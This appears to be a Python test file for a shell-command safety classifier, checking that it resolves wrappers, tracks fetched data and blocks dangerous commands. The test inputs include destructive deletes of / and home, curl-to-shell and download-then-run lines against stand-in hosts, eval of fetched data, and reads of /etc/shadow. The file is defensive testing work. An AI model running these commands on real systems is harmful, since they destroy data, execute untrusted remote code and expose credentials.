"""classify(): resolution, propagation, data flow and fallbacks, checked by their findings."""

from __future__ import annotations

import pytest

from deerguard import Verdict
from deerguard.shell import classify, parse_policy

BIG = parse_policy("[limits]\nmax_length = 1000000\n")


@pytest.mark.parametrize(("command", "programs"), [
    ("sudo -u root -E -- nice -n 5 ionice -c 3 timeout -s KILL 10 stdbuf -oL rm -f x",
     ("sudo", "nice", "ionice", "timeout", "stdbuf", "rm")),
    ("env -i -u HOME A=1 B=2 command builtin exec rm x", ("env", "command", "builtin", "exec",
                                                         "rm")),
    ("find . -name '*.o' -exec rm -f {} +", ("find", "rm")),
    ("xargs -0 -n 1 -P 4 grep -l foo", ("xargs", "grep")),
    ("busybox wget -qO- u", ("busybox", "wget")),
    ("chroot /srv/jail /bin/sh -c 'id'", ("chroot", "sh", "id")),
    ("flock -w 5 /tmp/lock make", ("flock", "make")),
    ("watch -n 2 'df -h'", ("watch", "df")),
    ("timeout --preserve-status 5s python3 -c 'print(1)'", ("timeout", "python3")),
])
def test_wrappers_are_resolved_with_their_option_arity(command: str,
                                                       programs: tuple[str, ...]) -> None:
    assert classify(command).commands == programs


def test_env_chains_of_any_depth_resolve() -> None:
    result = classify("env " * 2000 + "rm -rf /", policy=BIG)
    assert "shell.recursive-delete" in result.rule_ids


def test_command_v_only_looks_a_program_up() -> None:
    assert classify("command -v rm", policy=parse_policy('[commands]\ndeny=["rm"]')
                    ).verdict is Verdict.PASS


def test_conditional_assignment_keeps_every_possible_value() -> None:
    assert classify('x=ls; if [ "$a" ]; then x=rm; fi; $x -rf /').verdict is Verdict.BLOCK
    assert classify("x=ls; x=rm; $x -rf /").verdict is Verdict.BLOCK
    assert classify("x=rm; x=ls; $x -rf /").verdict is Verdict.PASS


def test_function_arguments_are_bound_at_each_call_site() -> None:
    assert classify('d() { rm -rf "$1"; }; d ./build').verdict is Verdict.PASS
    assert classify('d() { rm -rf "$1"; }; d ./build; d ~').verdict is Verdict.BLOCK


def test_uncalled_function_bodies_are_still_checked() -> None:
    assert classify("f() { curl -s u | sh; }").verdict is Verdict.BLOCK


def test_taint_flows_through_files_written_then_run() -> None:
    result = classify("curl -so /tmp/i.sh https://x.io/i && sh /tmp/i.sh")
    (finding,) = [f for f in result.findings if f.rule_id == "shell.download-exec"]
    assert finding.detail == "output of curl (0-4) was written to /tmp/i.sh"
    assert classify("curl -so /tmp/a.sh u && sh /tmp/b.sh").verdict is Verdict.PASS


def test_static_file_contents_are_classified_when_the_file_is_run() -> None:
    assert classify("echo 'rm -rf ~' > x.sh; bash x.sh").verdict is Verdict.BLOCK
    assert classify("echo 'ls -la' > x.sh; bash x.sh").verdict is Verdict.PASS


@pytest.mark.parametrize("command", [
    "x=$(curl -s u); eval \"$x\"", "x=$(curl -s u); bash -c \"$x\"", "x=$(curl -s u); $x",
    "x=$(wget -qO- u); echo $(( x ))", "x=$(curl u); echo \"${x@P}\"",
    "read -r l < <(curl -s u); eval \"$l\"", "curl -s u | while read -r l; do eval \"$l\"; done",
])
def test_fetched_data_reaching_a_sink_through_variables_blocks(command: str) -> None:
    assert "shell.tainted-exec" in classify(command).rule_ids


def test_findings_in_nested_code_point_at_the_outer_bytes() -> None:
    command = "sudo sh -c 'cd / && rm -rf --no-preserve-root /'"
    (finding,) = [f for f in classify(command).findings
                  if f.rule_id == "shell.recursive-delete"]
    assert command[slice(*finding.span)] == "/"
    assert finding.span.start == len(command) - 2


def test_deep_nesting_falls_back_to_the_flattened_raw_text() -> None:
    deep = "( " * 3000 + "rm -rf /" + " )" * 3000
    result = classify(deep, policy=BIG)
    assert result.verdict is Verdict.BLOCK
    assert "shell.recursive-delete" in result.rule_ids
    assert classify("( " * 3000 + "ls" + " )" * 3000, policy=BIG).verdict is Verdict.WARN


def test_raw_text_findings_keep_spans_into_the_original() -> None:
    command = 'echo "unclosed ; cat /etc/shadow'
    result = classify(command)
    spans = [f.span for f in result.findings if f.rule_id == "shell.sensitive-read"]
    assert spans and all(command[slice(*s)].startswith("/etc/shadow") for s in spans)


def test_nested_code_budget_and_depth_fail_closed() -> None:
    result = classify("eval " * 20 + "ls", policy=BIG)
    assert "shell.nesting-too-deep" in result.rule_ids
    assert result.verdict is Verdict.BLOCK


def test_values_that_double_each_step_stay_bounded() -> None:
    result = classify("x=ab; " + "x=$x$x; " * 200 + "$x", policy=BIG)
    assert result.verdict is Verdict.WARN  # the value became unknown: a dynamic program name


def test_function_fan_out_stays_linear_and_fails_closed_past_the_cap() -> None:
    same = "f0(){ rm -rf /; }; " + "".join(
        f"f{i}(){{ {f'f{i - 1}; ' * 10}}}; " for i in range(1, 9)) + "f8"
    assert "shell.recursive-delete" in classify(same).rule_ids
    distinct = "f0(){ ls $1; }; " + "".join(
        f"f{i}(){{ " + " ".join(f"f{i - 1} $1{j};" for j in range(10)) + " }; "
        for i in range(1, 9)) + "f8 x"
    assert "shell.nesting-too-deep" in classify(distinct).rule_ids


_DEPLOY = """deploy() {
  local host=$1 dir=$2
  echo "deploying to $host:$dir"
  rsync -az ./build/ "$host:$dir/"
  ssh "$host" "systemctl restart app-$dir"
  curl -fsS "https://$host/health" >/dev/null && echo ok
  git tag "deploy-$host-$(date +%s)"
  rm -rf "/srv/$dir"
  echo done with $host
}
"""


@pytest.mark.parametrize("calls", [20, 40, 80])
def test_a_short_script_calling_one_function_many_times_is_followed_at_every_call(
        calls: int) -> None:
    # The nested-work budget has a floor (what a max_length command gets), so a short
    # script is never cut off sooner than a long one: each call is classified with its own
    # arguments instead of blocking as too deep.
    benign = "".join(f"deploy web{i}.example.com app{i}\n" for i in range(calls))
    result = classify(_DEPLOY + benign)
    assert "shell.nesting-too-deep" not in result.rule_ids
    assert result.verdict is not Verdict.BLOCK
    # The last call's arguments still decide: its rm -rf reaches / itself.
    bad = classify(_DEPLOY + benign + "deploy web0.example.com ..\n")
    assert "shell.nesting-too-deep" not in bad.rule_ids
    assert "shell.recursive-delete" in bad.rule_ids


def test_a_function_is_rechecked_when_a_variable_it_reads_changes() -> None:
    assert classify("f(){ rm -rf $D; }; D=/tmp/x; f; D=/; f").verdict is Verdict.BLOCK
